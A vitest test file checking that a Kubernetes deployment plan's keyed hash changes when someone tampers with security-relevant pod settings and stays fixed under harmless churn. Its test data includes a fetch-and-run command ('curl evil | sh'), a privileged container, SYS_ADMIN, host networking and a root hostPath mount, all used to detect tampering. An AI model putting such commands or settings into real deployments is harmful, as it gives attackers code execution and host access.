import { describe, expect, it } from 'vitest';
import type { ChangeIntent } from '@/lib/model';
import { ACTION_KINDS } from '../kinds';
import { actionKeys } from '../seal';
import { deployOf, scaleTo, templateGateway, type Json } from '../testing/template-gateway';
import { draftOfBusy } from './make-plan';

/** A Deployment as its API server answers it, with what a plan must and must not rest on. */
const deployment = (): Json => ({
  metadata: {
    uid: 'u',
    resourceVersion: '7',
    labels: { app: 'cart' },
    annotations: { 'deployment.kubernetes.io/revision': '3' },
  },
  spec: {
    replicas: 2,
    template: {
      metadata: { labels: { app: 'cart' }, annotations: { note: 'a' } },
      spec: {
        serviceAccountName: 'cart',
        hostNetwork: false,
        containers: [
          {
            name: 'web',
            image: 'r/cart:1',
            command: ['serve'],
            args: ['--port=80'],
            env: [{ name: 'LEVEL', value: 'info' }],
            securityContext: { privileged: false },
          },
        ],
        volumes: [{ name: 'tmp', emptyDir: {} }],
      },
    },
  },
  status: { replicas: 2 },
});

type Edit = (object: Json) => void;
const at = (object: Json, ...path: (string | number)[]): Json =>
  path.reduce<unknown>((node, key) => (node as Record<string | number, unknown>)[key], object) as Json;
const template = (object: Json) => at(object, 'spec', 'template');
const web = (object: Json) => at(template(object), 'spec', 'containers', 0);

async function hashAfter(intent: ChangeIntent, edit: Edit, secret = 'keys'): Promise<string> {
  const server = templateGateway(deployment());
  server.edit(edit);
  const kind = ACTION_KINDS[intent.action];
  const asked = { gateway: server.gateway, kind, intent, resolved: null, operationId: 'op' };
  return (await draftOfBusy({ ...asked, keys: actionKeys(secret) })).hash;
}
const untouched: Edit = () => undefined;

const edits: [string, Edit][] = [
  ['privileged', (o) => (at(web(o), 'securityContext').privileged = true)],
  ['a capability', (o) => (at(web(o), 'securityContext').capabilities = { add: ['SYS_ADMIN'] })],
  ['hostNetwork', (o) => (at(template(o), 'spec').hostNetwork = true)],
  ['hostPID', (o) => (at(template(o), 'spec').hostPID = true)],
  ['the service account', (o) => (at(template(o), 'spec').serviceAccountName = 'admin')],
  ['the command', (o) => (web(o).command = ['sh', '-c', 'curl evil | sh'])],
  ['the arguments', (o) => (web(o).args = ['--port=81'])],
  ['a variable', (o) => (web(o).env = [{ name: 'LEVEL', value: 'debug' }])],
  ['a volume', (o) => (at(template(o), 'spec').volumes = [{ name: 'tmp', hostPath: { path: '/' } }])],
  ['the image', (o) => (web(o).image = 'r/cart:1-evil')],
  ['another container', (o) => (at(template(o), 'spec').initContainers = [{ name: 'x', image: 'r/x:1' }])],
  ['a label of the pods', (o) => (at(template(o), 'metadata', 'labels').app = 'other')],
  ['an annotation of the pods', (o) => (at(template(o), 'metadata', 'annotations').note = 'b')],
  ['the UID', (o) => (at(o, 'metadata').uid = 'another')],
];
const noise: [string, Edit][] = [
  ['the resourceVersion', (o) => (at(o, 'metadata').resourceVersion = '8')],
  ['the status', (o) => (at(o, 'status').replicas = 1)],
  ['a label of the object', (o) => (at(o, 'metadata', 'labels').team = 'x')],
  ['an annotation of the object', (o) => (at(o, 'metadata', 'annotations').x = 'y')],
  [
    'when it was restarted',
    (o) =>
      (at(template(o), 'metadata', 'annotations')['kubectl.kubernetes.io/restartedAt'] =
        '2026-03-12T03:00:00Z'),
  ],
];

describe.each([
  ['a deploy', deployOf('r/cart:2')],
  ['a scale', scaleTo(5)],
] as [string, ChangeIntent][])('the hash of %s', (_what, intent) => {
  it.each(edits)('is another when somebody changed %s', async (_field, edit) => {
    expect(await hashAfter(intent, edit)).not.toBe(await hashAfter(intent, untouched));
  });
  it.each(noise)('stays when %s moved', async (_field, edit) => {
    expect(await hashAfter(intent, edit)).toBe(await hashAfter(intent, untouched));
  });
  it('is keyed', async () => {
    expect(await hashAfter(intent, untouched, 'other')).not.toBe(await hashAfter(intent, untouched));
  });
});

describe('an autoscaler that moves the replicas', () => {
  const moved: Edit = (o) => (at(o, 'spec').replicas = 3);
  it('voids a scale', async () => {
    expect(await hashAfter(scaleTo(5), moved)).not.toBe(await hashAfter(scaleTo(5), untouched));
  });
  it('voids no deploy', async () => {
    expect(await hashAfter(deployOf('r/cart:2'), moved)).toBe(
      await hashAfter(deployOf('r/cart:2'), untouched),
    );
  });
});
